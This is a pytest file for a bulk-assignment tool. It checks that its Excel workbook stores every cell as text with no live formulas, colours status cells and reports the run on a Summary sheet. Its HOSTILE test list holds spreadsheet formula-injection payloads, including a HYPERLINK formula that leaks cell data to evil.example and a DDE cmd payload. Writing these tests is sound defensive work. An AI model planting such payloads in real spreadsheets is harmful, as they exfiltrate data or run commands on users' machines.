"""results.xlsx as an analyst opens it: the same values as results.csv with no apostrophe, no
formula anywhere, coloured statuses, a Failed sheet that `run --sheet Failed` takes as it is,
and a Summary that says what the run did."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from bulk_assign import cli
from bulk_assign.check.validator import validate
from bulk_assign.commands.validate import validate_command
from bulk_assign.report.files import OutputPaths, write_outputs
from bulk_assign.report.workbook import (
    BAD,
    GOOD,
    MAX_CELL_CHARS,
    MAX_WIDTH,
    STATUS_LOOKS,
    StatusLook,
    write_table_workbook,
    write_workbook,
)
from bulk_assign.results import RowOutcome, Status
from bulk_assign.settings import RunSettings
from bulk_assign.sheet.cells import unescape
from bulk_assign.sheet.reader import read_table
from tests.support.inputs import HEADER, row, write_csv, write_xlsx

#: Cells that a spreadsheet would run, convert or choke on, each in its own row's Notes.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "line one\r\nline two",
    "#N/A",
    "#REF!",
    "00123",
    "+44 20 7946 0001",
    "2024-01-02",
    "1e5",
    "TRUE",
    "  padded  ",
    "_x000D_",
    "x" * MAX_CELL_CHARS,
]
HEADER_X = [*HEADER, "Notes", "=cmd()"]


def hostile_input(tmp_path: Path) -> Path:
    rows: list[list[str]] = [HEADER_X]
    for i, value in enumerate(HOSTILE):
        rows.append([*row(Identifier=f"O{1000 + i}"), value, value])
    # Rows that fail validation, carrying hostile values into the Failed sheet.
    rows.append([*row(Identifier="O2001", Email="", Phone="+44 20 7946 0001"), "@SUM(1)", "=1"])
    rows.append([*row(Identifier="O2002", Phone="=HYPERLINK(1)"), "-x", "+y"])
    rows.append([*row(Identifier="O1000"), "a repeat", ""])
    return write_csv(tmp_path / "hostile.csv", rows)


def run_validate(path: Path, out: Path, **kwargs: Any) -> int:
    return validate_command(input_path=path, catalog="Sandbox", out=out,
                            stdout=io.StringIO(), **kwargs)


def csv_cells(path: Path) -> list[list[str]]:
    """A CSV of ours as its values: every cell without our formula apostrophe."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [[unescape(c) for c in line] for line in csv.reader(fh)]


def sheet_cells(path: Path, sheet: str) -> list[list[str]]:
    """A sheet as openpyxl reads it, empty cells as ""."""
    book = openpyxl.load_workbook(path)
    return [["" if v is None else v for v in line]
            for line in book[sheet].iter_rows(values_only=True)]


@pytest.fixture
def hostile_run(tmp_path: Path) -> Path:
    out = tmp_path / "out"
    assert run_validate(hostile_input(tmp_path), out, output_format="xlsx") == 1
    return out


def test_results_and_failed_sheets_hold_the_csvs_values_without_apostrophes(
    hostile_run: Path,
) -> None:
    book = hostile_run / "results.xlsx"
    assert openpyxl.load_workbook(book).sheetnames == ["Results", "Failed", "Summary"]
    results = sheet_cells(book, "Results")
    assert results == csv_cells(hostile_run / "results.csv")
    assert sheet_cells(book, "Failed") == csv_cells(hostile_run / "failed.csv")
    # The values a user looks for, as typed: no apostrophe, no conversion.
    notes = [line[results[0].index("Notes")] for line in results[1:]]
    assert notes[: len(HOSTILE)] == HOSTILE
    assert results[0][-1] == "=cmd()"
    assert not (hostile_run / "results.xlsx.tmp").exists()


def test_pandas_reads_the_same_text(hostile_run: Path) -> None:
    sheets = pd.read_excel(hostile_run / "results.xlsx", sheet_name=None, dtype=str,
                           keep_default_na=False)
    for sheet, name in (("Results", "results.csv"), ("Failed", "failed.csv")):
        frame = sheets[sheet]
        lines = csv_cells(hostile_run / name)
        assert list(frame.columns) == lines[0]
        assert frame.to_numpy().tolist() == lines[1:]


def test_no_cell_is_a_formula_or_an_error_value(hostile_run: Path) -> None:
    book_path = hostile_run / "results.xlsx"
    with zipfile.ZipFile(book_path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name
            assert 't="e"' not in xml and 't="str"' not in xml, name
    book = openpyxl.load_workbook(book_path)
    for sheet in (book["Results"], book["Failed"]):
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.value is None or cell.data_type == "s", cell.coordinate
    for line in book["Summary"].iter_rows():
        for cell in line:
            assert cell.data_type in ("s", "n"), cell.coordinate
            assert cell.data_type == "s" or isinstance(cell.value, int | float | None)


def test_status_cells_are_coloured_and_the_header_frozen_with_a_filter(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "in.csv", [HEADER, *[row(Identifier=f"O{i}") for i in range(9)]])
    validation = validate(read_table(path), catalog="Sandbox")
    statuses = [Status.SUCCEEDED, Status.UNCHANGED, Status.FAILED, Status.SKIPPED,
                Status.DRY_RUN, Status.SUCCEEDED, Status.FAILED, Status.UNCHANGED, Status.VALID]
    outcomes = {r: RowOutcome(row=r, status=s) for r, s in zip(range(2, 11), statuses,
                                                                  strict=True)}
    (tmp_path / "out").mkdir()
    paths = OutputPaths.in_folder(tmp_path / "out")
    summary = write_outputs(paths, validation, outcomes, {}, workbook=True)
    assert summary["files"]["workbook"] == str(paths.workbook)
    sheet = openpyxl.load_workbook(paths.workbook)["Results"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}10"
    seen = {}
    for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2):
        look = STATUS_LOOKS[cell.value]
        fill = cell.fill.fgColor.rgb if cell.fill.fill_type == "solid" else None
        assert fill == (None if look.fill is None else "00" + look.fill), cell.value
        seen[cell.value] = fill
    assert seen["SUCCEEDED"] == seen["UNCHANGED"] == "00C6EFCE"  # green
    assert seen["FAILED"] == "00FFC7CE"  # red
    assert seen["SKIPPED"] == "00FFEB9C"  # amber
    assert seen["DRY_RUN"] is None and seen["VALID"] is None  # neutral


def test_failed_sheet_is_run_input_as_it_stands(hostile_run: Path, tmp_path: Path) -> None:
    book = hostile_run / "results.xlsx"
    again = read_table(book, sheet="Failed")
    failed_csv = read_table(hostile_run / "failed.csv")
    assert list(again.frame.columns) == list(failed_csv.frame.columns)
    # The reader leaves failed.csv's apostrophes to the validator; the sheet needs none.
    unescaped = [[unescape(c) for c in line] for line in failed_csv.frame.to_numpy().tolist()]
    assert again.frame.to_numpy().tolist() == unescaped
    first = validate(failed_csv, catalog="Sandbox")
    second = validate(again, catalog="Sandbox")
    assert second.error_class.tolist() == first.error_class.tolist() != []
    # The phone of the first failed row keeps its "+": Excel did not make it a number.
    assert again.frame["Phone"].iloc[0] == "+44 20 7946 0001"
    # And the command line takes it: rows are judged (exit 1), the file is not refused (2).
    out = tmp_path / "again"
    code = cli.main(["validate", str(book), "--sheet", "Failed", "--catalog", "Sandbox",
                     "--out", str(out)])
    assert code == 1
    assert json.loads((out / "summary.json").read_text())["rows"] == len(failed_csv.frame)


def test_summary_sheet_reports_the_run(hostile_run: Path) -> None:
    summary = json.loads((hostile_run / "summary.json").read_text(encoding="utf-8"))
    sheet = openpyxl.load_workbook(hostile_run / "results.xlsx")["Summary"]
    lines = [tuple(line) for line in sheet.iter_rows(values_only=True)]
    facts = {line[0]: line[1] for line in lines if line[0]}
    assert facts["Input sha256"] == summary["input_sha256"]
    assert facts["Catalog"] == "Sandbox"
    assert facts["Rows"] == summary["rows"]
    assert facts["Writes (AssignOpportunity calls)"] == 0
    assert facts["Started (UTC)"] == summary["started_at"]
    start = lines.index(("Rows by status", "Rows"))
    counted = {}
    for status, count in lines[start + 1:]:
        if status is None:
            break
        counted[status] = count
    assert counted == summary["by_status"]
    assert facts["MISSING_EMAIL"] == summary["by_error_class"]["MISSING_EMAIL"]
    legend = lines.index(("Legend: status", "Meaning"))
    assert [line[0] for line in lines[legend + 1:]] == [str(s) for s in Status]
    assert len(sheet._charts) == 1
    chart = sheet._charts[0]
    assert chart.tagname == "barChart"
    assert summary["workbook"] == {"cells_cut": 0, "cells_cleaned": 0}


def test_columns_fit_their_content_up_to_a_cap(hostile_run: Path) -> None:
    sheet = openpyxl.load_workbook(hostile_run / "results.xlsx")["Results"]
    header = [c.value for c in sheet[1]]
    widths = {name: sheet.column_dimensions[sheet.cell(1, i + 1).column_letter].width
              for i, name in enumerate(header)}
    assert widths["Notes"] == MAX_WIDTH  # holds a 32,767-character cell
    assert len("error_class") < widths["error_class"] <= MAX_WIDTH
    assert widths["row"] < 15


def test_control_characters_and_overlong_cells_still_make_a_readable_file(
    tmp_path: Path,
) -> None:
    forbidden = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\ufffe\uffff"
    values = [f"a{forbidden}b", "\x00=1+1", "y" * (MAX_CELL_CHARS + 1), "\U0001f600" * 20_000,
              "z" * MAX_CELL_CHARS]
    frame = pd.DataFrame({"row": range(2, 7), "status": ["FAILED"] * 5, "Notes": values})
    path = tmp_path / "x.xlsx"
    fixes = write_workbook(path, results=frame, failed=frame.drop(columns=["row", "status"]),
                           summary={"by_status": {"FAILED": 5}})
    assert fixes == {"cells_cut": 4, "cells_cleaned": 4}  # in Results and in Failed
    for read in (sheet_cells(path, "Results"),
                 pd.read_excel(path, sheet_name="Results", dtype=str).to_numpy().tolist()):
        notes = [line[2] for line in read[-5:]]
        assert notes[0] == "ab"
        assert notes[1] == "=1+1"
        for cut in notes[2:4]:
            assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL_CHARS
            assert cut.endswith("the CSV has all 32,768]") or cut.endswith("all 40,000]")
        assert notes[4] == "z" * MAX_CELL_CHARS  # at the limit: kept whole
    facts = dict(sheet_cells(path, "Summary")[1:25])
    assert facts["Cells cut to 32,767 characters"] == 4


def test_format_option_decides_whether_the_workbook_is_written(tmp_path: Path) -> None:
    rows = [HEADER, row()]
    csv_in = write_csv(tmp_path / "in.csv", rows)
    xlsx_in = write_xlsx(tmp_path / "in.xlsx", {"Sheet": rows})
    cases = [(csv_in, [], False), (csv_in, ["--format", "xlsx"], True),
             (xlsx_in, [], True), (xlsx_in, ["--format", "csv"], False)]
    for n, (path, extra, wanted) in enumerate(cases):
        out = tmp_path / f"out{n}"
        assert cli.main(["validate", str(path), "--catalog", "Sandbox", "--out", str(out),
                         *extra]) == 0
        assert (out / "results.xlsx").exists() is wanted, (path.name, extra)
        assert (out / "results.csv").exists()


def test_run_settings_keep_the_format_for_resume() -> None:
    settings = RunSettings(input_path=Path("in.csv"), catalog="Sandbox", output_format="xlsx")
    assert RunSettings.from_json(settings.to_json()).output_format == "xlsx"
    with pytest.raises(ValueError, match="output_format"):
        RunSettings(input_path=Path("in.csv"), catalog="Sandbox", output_format="pdf")


def test_one_sheet_workbooks_hold_the_hostile_corpus_as_text_with_their_own_colours(
    tmp_path: Path,
) -> None:
    looks = {"MATCH": StatusLook(*GOOD, "in place"), "DRIFTED": StatusLook(*BAD, "moved")}
    verdicts = ["MATCH", "DRIFTED", "OTHER"] * len(HOSTILE)
    frame = pd.DataFrame({"row": range(len(HOSTILE)), "value": HOSTILE,
                          "verdict": verdicts[: len(HOSTILE)]}, dtype=object)
    path = tmp_path / "one.xlsx"
    fixes = write_table_workbook(path, frame=frame, title="Checks", look_column="verdict",
                                 looks=looks)
    assert fixes == {"cells_cut": 0, "cells_cleaned": 0}
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Checks"]
    sheet = book["Checks"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[1].value for r in rows] == HOSTILE
    assert [r[0].value for r in rows] == [str(i) for i in range(len(HOSTILE))]
    assert all(c.data_type == "s" for r in sheet.iter_rows() for c in r if c.value is not None)
    fills = {r[2].value: r[2].fill.fgColor.rgb for r in rows}
    assert fills["MATCH"] == "00" + GOOD[0] and fills["DRIFTED"] == "00" + BAD[0]
    assert fills["OTHER"] in (None, "00000000")  # a value without a look stays plain
    assert pd.read_excel(path, dtype=str, keep_default_na=False)["value"].tolist() == HOSTILE
